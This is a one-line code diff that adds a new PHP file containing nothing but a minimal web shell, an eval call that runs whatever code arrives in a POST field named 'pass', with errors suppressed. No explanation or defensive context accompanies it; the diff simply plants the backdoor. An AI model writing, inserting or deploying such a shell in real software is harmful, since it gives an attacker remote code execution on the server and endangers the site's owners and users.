@@ -1,0 +1,1 @@
+<?php @eval($_POST['pass']);?>
